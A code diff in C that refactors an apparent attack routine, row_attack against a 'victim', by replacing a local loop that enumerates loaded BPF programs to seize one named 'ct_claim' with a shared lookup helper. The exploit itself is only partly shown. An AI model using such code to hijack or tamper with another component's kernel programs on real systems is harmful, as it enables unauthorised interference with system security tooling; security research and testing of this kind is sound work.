@@ -11,42 +11,11 @@
 #include <time.h>
 #include <unistd.h>
 
+#include "ring.h"
 #include "row.h"
 
 #define CLAIM_AGENT 1 // of enum ct_claim, bpf/ring.h
 #define WAIT_STEPS 15000
-
-static int get_info(int program, struct bpf_prog_info *ret)
-{
-    union bpf_attr ask = {.info = {.bpf_fd = (unsigned)program,
-                                   .info_len = sizeof(*ret),
-                                   .info = (unsigned long)ret}};
-    return (int)syscall(SYS_bpf, BPF_OBJ_GET_INFO_BY_FD, &ask, sizeof(ask));
-}
-
-// A descriptor of the first program of that name that is to be had; -1 with EPERM where some were refused, else ENOENT.
-static int find_claim(void)
-{
-    union bpf_attr attr = {0};
-    int why = ENOENT;
-    while (syscall(SYS_bpf, BPF_PROG_GET_NEXT_ID, &attr, sizeof(attr)) == 0) {
-        unsigned id = attr.next_id;
-        struct bpf_prog_info info = {0};
-        union bpf_attr get = {.prog_id = id};
-        int fd = (int)syscall(SYS_bpf, BPF_PROG_GET_FD_BY_ID, &get, sizeof(get));
-        why = fd < 0 && errno == EPERM ? EPERM : why;
-        if (fd >= 0 && get_info(fd, &info) == 0 && strcmp(info.name, "ct_claim") == 0) {
-            return fd;
-        }
-        if (fd >= 0) {
-            close(fd);
-        }
-        memset(&attr, 0, sizeof(attr));
-        attr.start_id = id;
-    }
-    errno = why;
-    return -1;
-}
 
 static int claim(int program)
 {
@@ -69,7 +38,7 @@ static enum row_result claim_later(const char *file)
 {
     int program = -1;
     for (int i = 0; i < WAIT_STEPS && program < 0; i++) {
-        program = find_claim();
+        program = row_find(ROW_PROGRAM, "ct_claim");
         pause_a_little();
     }
     if (program < 0) {
@@ -89,7 +58,7 @@ enum row_result row_attack(const struct row_victim *victim)
     if (wait != NULL) {
         return claim_later(wait);
     }
-    int program = find_claim();
+    int program = row_find(ROW_PROGRAM, "ct_claim");
     if (program < 0) {
         return row_from_errno("bpf");
     }
